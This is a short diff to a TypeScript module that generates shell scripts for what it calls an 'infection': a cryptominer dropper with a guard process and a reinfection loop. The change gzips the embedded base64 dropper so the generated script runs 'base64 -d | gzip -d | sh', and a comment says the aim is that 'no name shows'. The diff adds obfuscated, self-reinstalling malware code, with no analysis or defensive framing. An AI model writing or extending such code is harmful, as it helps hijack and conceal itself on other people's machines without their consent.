@@ -1,4 +1,5 @@
 import { posix } from 'node:path';
+import { gzipSync } from 'node:zlib';
 import { quote } from '../shell.ts';
 import type { Habits, Infection } from './infection.ts';
 import { loaderUrl } from './infection.ts';
@@ -77,12 +78,12 @@ printf '%s' ${target} | grep -qsF -f - /proc/[0-9]*/cmdline || { (exec setsid ${
 
 /** Waits for the end of what was started last (guard, else miner), and carries the dropper so that no name shows. */
 function waiting(infection: Infection, reinfect: { path: string; afterSeconds: number }): string {
-  const again = Buffer.from(dropperScript({ ...infection, reinfect: null })).toString('base64');
+  const again = gzipSync(dropperScript({ ...infection, reinfect: null })).toString('base64');
   const target = quote(reinfect.path);
   return `cat >${target} <<'AGAIN'
 while kill -0 "$1" 2>/dev/null; do sleep 0.2; done
 sleep ${reinfect.afterSeconds}
-base64 -d <<'X' | sh
+base64 -d <<'X' | gzip -d | sh
 ${again}
 X
 AGAIN
